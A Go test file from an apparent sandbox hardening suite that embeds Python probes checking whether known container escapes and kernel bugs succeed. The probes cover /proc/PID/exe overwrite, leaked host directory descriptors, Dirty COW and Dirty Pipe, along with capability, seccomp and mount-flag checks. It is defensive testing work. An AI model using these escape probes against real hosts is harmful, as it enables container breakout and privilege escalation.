//go:build linux

package sandboxtest

import "github.com/sallyport/sallyport/internal/sandbox"

// runtimeAttempts follow known escapes from container runtimes, through a
// program, directory or file that the runtime had left within reach.
func runtimeAttempts() []Attempt {
	const c = "runtime"
	root := Control{Root: true}
	return []Attempt{
		{Name: "exe-overwrite", Category: c, Tries: "opens the program of process 1, or of any other, for writing by /proc/PID/exe", Probe: `
# As CVE-2019-5736 does with the runtime's own program. "Text file busy" comes
# after every check of permissions: a moment later it would have opened.
def attempt(pid):
    def go():
        try:
            return can_open("/proc/%s/exe" % pid, os.O_WRONLY)
        except OSError as e:
            if e.errno == errno.ETXTBSY:
                return "the program of process %s is only busy" % pid
            raise
    return go
return first([attempt(p) for p in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int)])
`, Control: root},
		{Name: "leaked-directory", Category: c, Tries: "climbs out by a directory of the host that a process still holds open or works in", Probe: `
# As CVE-2024-21626 does: a directory outside of the root, entered by its
# descriptor, has a parent and at its top the host's root.
canary = P["files"]["/tmp"].lstrip("/")
def attempt(link):
    def go():
        fd = os.open(link, os.O_PATH | os.O_DIRECTORY)
        try:
            with open(os.open("../" * 40 + canary, os.O_RDONLY, dir_fd=fd), "rb") as f:
                return f.read().decode() == P["token"] and "read it from " + link
        finally:
            os.close(fd)
    return go
return first([attempt(l) for l in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd")])
`, Control: root},
		{Name: "unreachable-directory", Category: c, Tries: "starts in a directory that lies outside of its root", Probe: `
def name(p):
    return os.readlink("/proc/%s/cwd" % p)
def attempt(p):
    return lambda: name(p).startswith("(unreachable)") and "process %s is in %s" % (p, name(p))
return first([attempt(p) for p in os.listdir("/proc") if p.isdigit()])
`, Control: Control{Root: true, Probe: `
fd = os.open("/", os.O_RDONLY)
os.chroot(tempfile.mkdtemp())
os.fchdir(fd)
where = ctypes.create_string_buffer(4096)
syscall("getcwd", where, 4096)
if where.value.startswith(b"(unreachable)"):
    return "it is in " + where.value.decode()
`, Why: "no process of the host is outside of its root: the control puts itself there"}},
		{Name: "exec-script", Category: c, Tries: "makes the kernel start a script from a place that it can write to", Probe: `
def attempt(d):
    def go():
        p = "%s/script-%d" % (d, os.getpid())
        with open(p, "w") as f:
            f.write("#!/proc/self/exe\n")  # itself, as CVE-2019-5736 does
        os.chmod(p, 0o755)
        try:
            os.waitpid(os.posix_spawn(p, [p], {}), 0)
            return "started " + p
        finally:
            os.unlink(p)
    return go
return first([attempt(d) for d in ("/workspace", "/tmp", "/dev/shm", "/var/tmp")])
`},
		{Name: "exec-loader", Category: c, Tries: "runs a program from a place that it can write to by handing it to the dynamic loader", Probe: `
import shutil
loaders = glob.glob("/lib64/ld-linux*") + glob.glob("/lib/ld-linux*") + glob.glob("/lib/*/ld-linux*")
program = "/bin/true" if os.path.exists("/bin/true") else "/usr/bin/true"
def attempt(d, loader):
    def go():
        p = "%s/loaded-%d" % (d, os.getpid())
        shutil.copyfile(program, p)
        try:
            if subprocess.call([loader, p], stderr=subprocess.DEVNULL) == 0:
                return "%s ran %s" % (loader, p)
        finally:
            os.unlink(p)
    return go
return first([attempt(d, l) for d in ("/workspace", "/tmp", "/dev/shm") for l in loaders])
`, Control: Control{Unproven: "a host whose C library is musl has no such loader"}},
		{Name: "load-library", Category: c, Tries: "loads a shared library from a place that it can write to", Probe: `
import _ctypes, shutil
if not getattr(_ctypes, "__file__", None):
    raise Blocked("no library to copy: Python has it built in")
def attempt(d):
    def go():
        p = "%s/lib-%d.so" % (d, os.getpid())
        shutil.copyfile(_ctypes.__file__, p)
        try:
            ctypes.CDLL(p)
            return "loaded " + p
        finally:
            os.unlink(p)
    return go
return first([attempt(d) for d in ("/workspace", "/tmp", "/dev/shm")])
`, Control: Control{Unproven: "a Python may have every library built in"}},
		{Name: "mprotect-exec", Category: c, Tries: "maps a file that it wrote for reading and then makes the mapping executable", Probe: `
_LIBC.mmap.restype = ctypes.c_void_p
def attempt(d):
    def go():
        p = "%s/page-%d" % (d, os.getpid())
        with open(p, "wb") as f:
            f.write(b"\xc3" * 4096)
        fd = os.open(p, os.O_RDONLY)
        try:
            at = _LIBC.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, fd, ctypes.c_long(0))
            if at in (None, ctypes.c_void_p(-1).value):
                raise OSError(ctypes.get_errno(), "mmap")
            if _LIBC.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), mmap.PROT_READ | mmap.PROT_EXEC) != 0:
                raise OSError(ctypes.get_errno(), "mprotect")
            return "made a page of %s executable" % p
        finally:
            os.close(fd)
            os.unlink(p)
    return go
return first([attempt(d) for d in ("/workspace", "/tmp", "/dev/shm")])
`},
		{Name: "mount-flags", Category: c, Tries: "finds a file system that it can write to and that honours setuid bits or device nodes", Probe: `
for line in open("/proc/self/mounts"):
    _, point, kind, options = line.split()[:4]
    point = point.replace("\\040", " ")
    missing = {"nosuid", "nodev"} - set(options.split(","))
    if missing and kind not in ("proc", "sysfs", "cgroup", "cgroup2", "devpts", "mqueue") and os.path.isdir(point) and "rw" in options.split(",") and os.access(point, os.W_OK):
        return "%s is writable without %s" % (point, " and ".join(sorted(missing)))
`, OwnKernel: "gVisor has no nodev: a node names a device of its own kernel, and making one takes a capability"},
		{Name: "overlay-xattr", Category: c, Tries: "sets the attributes by which an overlay hides or redirects files", Probe: `
d = tempfile.mkdtemp()
def attempt(p, name, value):
    return lambda: os.setxattr(p, name, value) or "set %s on %s" % (name, p)
return first([attempt(d, "trusted.overlay.opaque", b"y"), attempt(d, "trusted.overlay.redirect", b"/etc"), attempt("/", "trusted.sallyport", b"1")])
`, Control: Control{Root: true, Unproven: "a file system may know no trusted attributes"}},
		{Name: "reopen-writable", Category: c, Tries: "opens a file of the root for reading and opens that descriptor again for writing", Probe: `
def attempt(p):
    def go():
        fd = os.open(p, os.O_RDONLY)
        try:
            return can_open("/proc/self/fd/%d" % fd, os.O_WRONLY) and "reopened " + p
        finally:
            os.close(fd)
    return go
return first([attempt(p) for p in (os.__file__, "/etc/passwd", "/etc/hosts", "/usr/bin/env", "/etc/resolv.conf", "/etc/hostname")])
`, Control: root},
		{Name: "dirty-cow", Category: c, Tries: "writes to a file that it may only read, by a race between /proc/self/mem and madvise", Probe: `
# As CVE-2016-5195. The file is its own, so that a kernel that has the fault
# loses nothing by it.
p = tempfile.mkdtemp() + "/f"
with open(p, "wb") as f:
    f.write(b"a" * 4096)
os.chmod(p, 0o444)
fd = os.open(p, os.O_RDONLY)
_LIBC.mmap.restype = ctypes.c_void_p
at = _LIBC.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, fd, ctypes.c_long(0))
end = time.monotonic() + 0.7
def drop():
    while time.monotonic() < end:
        _LIBC.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)
th = threading.Thread(target=drop)
th.start()
try:
    with open("/proc/self/mem", "r+b", buffering=0) as mem:
        while time.monotonic() < end:
            mem.seek(at)
            mem.write(b"b")
finally:
    th.join()
if b"b" in read_some(p):
    return "changed it"
`, Control: Control{Probe: `
p = tempfile.mkdtemp() + "/f"
with open(p, "wb") as f:
    f.write(b"a" * 4096)
with open(p, "r+b") as f:
    m = mmap.mmap(f.fileno(), 4096)
    m[0] = ord("b")
    m.flush()
if b"b" in read_some(p):
    return "changed it"
`, Why: "the fault is fixed everywhere: the control shows that a change made by a mapping is seen"}},
		{Name: "dirty-pipe", Category: c, Tries: "writes to a file that it may only read, by splicing its page into a pipe", Probe: `
# As CVE-2022-0847, on a file of its own.
p = tempfile.mkdtemp() + "/f"
with open(p, "wb") as f:
    f.write(b"a" * 4096)
os.chmod(p, 0o444)
r, w = os.pipe()
room = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ
os.write(w, b"x" * room)
while room > 0:
    room -= len(os.read(r, room))
fd = os.open(p, os.O_RDONLY)
if syscall("splice", fd, None, w, None, 1, 0) != 1:
    raise Blocked("nothing was spliced")
os.write(w, b"b" * 8)
if b"b" in read_some(p):
    return "changed it"
`, Control: Control{Probe: `
p = tempfile.mkdtemp() + "/f"
with open(p, "wb") as f:
    f.write(b"a" * 4096)
r, w = os.pipe()
os.write(w, b"b" * 8)
fd = os.open(p, os.O_RDWR)
syscall("splice", r, None, fd, None, 8, 0)
if b"b" in read_some(p):
    return "changed it"
`, Why: "the fault is fixed everywhere: the control shows that a change made by a splice is seen"}},
		{Name: "resolv-conf", Category: c, Tries: "learns the host's name servers", Probe: `
text = open("/etc/resolv.conf").read().split()
for r in P["resolvers"]:
    if r in text:
        return "found " + r
`, Control: Control{Unproven: "a host may have no name server"}},
		{Name: "network-files", Category: c, Tries: "learns an address of the host from /etc/hosts", Probe: `
text = open("/etc/hosts").read().split()
for a in P["addresses"] + [P["hostname"]]:
    if a in text:
        return "found " + a
`, Control: Control{Unproven: "a host's /etc/hosts need not name the host"}},
	}
}

// confinementAttempts check what confines the code: each missing piece would
// make another attempt worthwhile.
func confinementAttempts() []Attempt {
	const c = "confinement"
	field := `
def field(name):
    return [l.split(":")[1].split() for l in open("/proc/self/status") if l.startswith(name + ":")][0]
`
	return []Attempt{
		{Name: "is-root", Category: c, Tries: "runs as user 0 or with group 0", Probe: `
ids = os.getresuid() + os.getresgid() + tuple(os.getgroups())
if 0 in ids:
    return "its users and groups are %s" % (ids,)
`, Control: Control{Root: true}},
		{Name: "has-capability", Category: c, Tries: "has a capability, or could have one by running a program", Probe: field + `
for name in ("CapEff", "CapPrm", "CapInh", "CapAmb", "CapBnd"):
    if int(field(name)[0], 16):
        return "%s is %s" % (name, field(name)[0])
`},
		{Name: "new-privileges", Category: c, Tries: "may gain privileges by a program that has them", Probe: `
if _LIBC.prctl(39, 0, 0, 0, 0) == 0:
    return "no_new_privs is not set"
`, Control: Control{Unproven: "a test that itself runs with no_new_privs passes them on"}},
		{Name: "unfiltered-calls", Category: c, Tries: "makes system calls that nothing filters", Probe: field + `
if field("Seccomp")[0] == "0":
    return "there is no filter"
`, OwnKernel: "its calls end in the sandbox's own kernel, whose own calls are filtered", Control: Control{Unproven: "a test that itself runs under a filter passes it on"}},
		{Name: "core-limit", Category: c, Tries: "makes the host write core dumps, for which the host's kernel may run a program", Probe: `
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
if hard == 0:
    raise Blocked("the limit is 0")
resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
return "the limit is %d" % hard
`, OwnKernel: "gVisor writes no core dumps", Control: Control{Unproven: "whoever runs the test may have none allowed"}},
		{Name: "oom-score", Category: c, Tries: "has the host's kernel kill others before itself when memory is short", Probe: `
p = "/proc/self/oom_score_adj"
old = int(open(p).read())
with open(p, "w") as f:
    f.write(str(max(old - 100, -1000)))
if int(open(p).read()) < old or old == -1000:
    return "from %d to %s" % (old, open(p).read().strip())
`, OwnKernel: "gVisor keeps the number and kills nothing by it", Control: Control{Root: true, Unproven: "a root without CAP_SYS_RESOURCE cannot lower it either"}},
		{Name: "file-flags", Category: c, Tries: "makes a file that cannot be removed", Probe: `
p = tempfile.mkdtemp() + "/f"
fd = os.open(p, os.O_RDONLY | os.O_CREAT, 0o600)
flags = array.array("i", [0])
fcntl.ioctl(fd, 0x80086601, flags)
flags[0] |= 0x10
fcntl.ioctl(fd, 0x40086602, flags)
flags[0] &= ~0x10
fcntl.ioctl(fd, 0x40086602, flags)
return "made it immutable, and undid it"
`, Control: Control{Root: true, Unproven: "not every file system has such flags"}},
		{Name: "wake-alarm", Category: c, Tries: "sets a timer that wakes the machine", Probe: `
return first([lambda k=k: "made %d" % syscall("timerfd_create", k, 0) for k in (8, 9)])
`, Control: Control{Root: true, Unproven: "a machine without a clock that wakes it has none"}},
		{Name: "secure-bits", Category: c, Tries: "changes what becoming root means for its process", Probe: `
if _LIBC.prctl(28, 0x2a, 0, 0, 0) != 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
return "changed"
`, Control: Control{Root: true}},
		{Name: "personality-bits", Category: c, Tries: "makes its memory readable as code by personality", Probe: `
syscall("personality", 0x0400000)
if syscall("personality", 0xffffffff) & 0x0400000:
    return "changed"
`, Level: sandbox.KernelIsolation},
	}
}
